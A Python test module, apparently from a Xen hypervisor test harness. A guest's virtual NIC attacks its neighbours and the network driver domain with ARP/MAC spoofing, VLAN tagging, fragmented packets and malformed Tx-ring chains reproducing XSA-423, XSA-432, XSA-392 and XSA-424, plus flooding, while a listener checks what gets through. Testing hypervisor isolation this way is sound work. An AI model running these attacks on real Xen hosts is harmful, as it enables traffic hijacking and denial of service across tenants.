"""Attacks through a vif: on others of its network, and on the driver domain behind it; and the victim that listens."""

from __future__ import annotations

import signal
import struct
from ipaddress import ip_address
from typing import NoReturn

from hvd.domains.guest import Guest
from hvd.domains.net.frontend import RING_PAGES, NetFrontend
from hvd.transport.pages import PAGE_SIZE
from hvd.transport.protocols.net import parse_mac
from hvd.transport.xenbus_state import XenbusState

GATEWAY_MAC, GATEWAY = parse_mac("00:16:3e:00:00:09"), ip_address("10.0.0.9").packed
EVERYBODY = b"\xff" * 6
HONEST, FORBIDDEN = b"\x88\xb5", b"\x88\xb6"
"""Types of what the victim may be told, and may not: Ethernet's two for local experiments."""
LISTEN_S = 15.0
OWN_PAGE, LARGE = 200, 1400
"""A page of the vif's that nothing else is sent from so soon, and bytes of a large packet."""
MORE, EXTRA = 4, 8
UNKNOWN_REF = 0x00FF_FFFF
CHAINS: dict[str, list[bytes]] = {
    "a part beyond its page": [struct.pack("<IHHHH", 0, 4000, 0, 0, 600)],
    "parts larger than the packet": [struct.pack("<IHHHH", 0, 0, MORE, 0, 100), struct.pack("<IHHHH", 0, 0, 0, 0, 900)],
    "a page that was not granted": [struct.pack("<IHHHH", UNKNOWN_REF, 0, 0, 0, 60)],
    "parts without end": [struct.pack("<IHHHH", 0, 0, MORE, 0, 4000)] + [struct.pack("<IHHHH", 0, 0, MORE, 0, 1)] * 60,
    "extra infos without end": [struct.pack("<IHHHH", 0, 0, EXTRA, 0, 60)] + [bytes((1, 1, 16, 0, 1)) + bytes(7)] * 60,
    "a packet of no bytes": [struct.pack("<IHHHH", 0, 0, 0, 0, 0)],
    "parts of no bytes": [struct.pack("<IHHHH", 0, 0, MORE, 0, 100)] + [struct.pack("<IHHHH", 0, 0, MORE, 0, 0)] * 20,
    "a packet that does not end": [struct.pack("<IHHHH", 0, 0, MORE, 0, 60)],
}
"""Slots of the Tx ring."""


def forge(vif: NetFrontend, kind: str) -> bytes:
    """A packet that may not arrive."""
    if kind == "spoofed-arp":  # "the gateway is here"
        reply = bytes.fromhex("0001080006040002") + GATEWAY_MAC + GATEWAY + bytes(6) + bytes(4)
        return EVERYBODY + vif.mac + b"\x08\x06" + reply + bytes(18)
    if kind == "spoofed-mac":
        return EVERYBODY + GATEWAY_MAC + FORBIDDEN + bytes(46)
    if kind == "tagged":
        return EVERYBODY + vif.mac + b"\x81\x00\x00\x02" + FORBIDDEN + bytes(46)
    return EVERYBODY + vif.mac + FORBIDDEN + bytes(46)


def send(guest: Guest, kind: str) -> str:
    """The forged packet, and an honest one behind it, by which the victim knows that both were looked at."""
    vif = guest.device("vif")
    vif.send(forge(vif, kind))
    vif.send(EVERYBODY + vif.mac + HONEST + bytes(46))
    return "sent both"


SPLINTERS = ((1,) * 17, (13, *(1,) * 15, 5), (0,) * 16 + (14,), (14, *(0,) * 16), (6, 6, 1, 1), (1, 12, 0, 1))
"""How many bytes are in each part but the last, which has the rest: most cut the packet's type in two."""


def send_splinters(guest: Guest) -> str:
    """XSA-423, XSA-432: the forbidden packet in as many parts as there may be; then the honest one, in one."""
    vif = guest.device("vif")
    queue, forged, honest = vif.queues[0], forge(vif, "plain"), EVERYBODY + vif.mac + HONEST + bytes(46)
    memory, ref = queue.memory[PAGE_SIZE * (RING_PAGES + OWN_PAGE) :], queue.ref + RING_PAGES + OWN_PAGE
    memory[: len(forged) + len(honest)] = forged + honest
    for parts in SPLINTERS:
        at = 0
        for number, size in enumerate((*parts, len(forged) - sum(parts))):
            more = MORE if number < len(parts) else 0
            in_all = size if number else len(forged)  # so says the first
            queue.tx.push(struct.pack("<IHHHH", ref, at, more, OWN_PAGE, in_all))
            at += size
    queue.tx.push(struct.pack("<IHHHH", ref, len(forged), 0, OWN_PAGE, len(honest)))
    queue.tx_endpoint.notify()
    return f"sent a packet in {len(SPLINTERS)} ways"


def take_nothing(guest: Guest) -> NoReturn:
    """XSA-392, XSA-424: packets are never read, nor is a buffer given back."""
    guest.device("vif")
    guest.runtime.store.write("data/listens", "1")
    while True:
        signal.pause()


def flood(guest: Guest, count: str) -> str:
    """Large packets for everybody."""
    vif = guest.device("vif")
    vif.send_many([EVERYBODY + vif.mac + FORBIDDEN + bytes(LARGE)] * int(count))
    return f"sent {int(count):,} packets"


def listen(guest: Guest) -> str:
    """What arrives before the honest packet."""
    vif, heard = guest.device("vif"), "nothing"
    guest.runtime.store.write("data/listens", "1")
    while (packet := vif.receive(LISTEN_S)) is not None:
        if packet[12:14] == HONEST:
            return f"heard {heard}"
        heard = "the forged packet"
    return f"heard {heard}, and not the honest one"


def break_ring(guest: Guest) -> str:
    """One chain after the other, each to a backend that gives us another chance; then an index that jumps."""
    vif = guest.device("vif")
    for number, (what, slots) in enumerate(CHAINS.items()):
        for slot in slots:
            vif.queues[0].tx.push(slot if slot[:4] != bytes(4) else vif.queues[0].ref.to_bytes(4, "little") + slot[4:])
        _wait_closed(guest, vif, what)
        _knock(guest, vif, number)
    vif.queues[0].memory[0:4] = (0x8000_0000).to_bytes(4, "little")
    _wait_closed(guest, vif, "an index that jumps")
    return f"broke its ring in {len(CHAINS) + 1} ways"


def _wait_closed(guest: Guest, vif: NetFrontend, what: str) -> None:
    vif.queues[0].tx_endpoint.notify()
    frontend = guest._frontends["vif", "0"]
    guest.runtime.wait_until(lambda: frontend.state is XenbusState.CLOSED, f"the end of the device after {what}", 20)


def _knock(guest: Guest, vif: NetFrontend, number: int) -> None:
    guest.runtime.store.write_all("device/vif/0", {"hvd-incarnation": str(1000 + number), "state": "1"})
    guest.runtime.wait_until(lambda: vif.front is not None and vif.front.attached, "a second chance", 20)
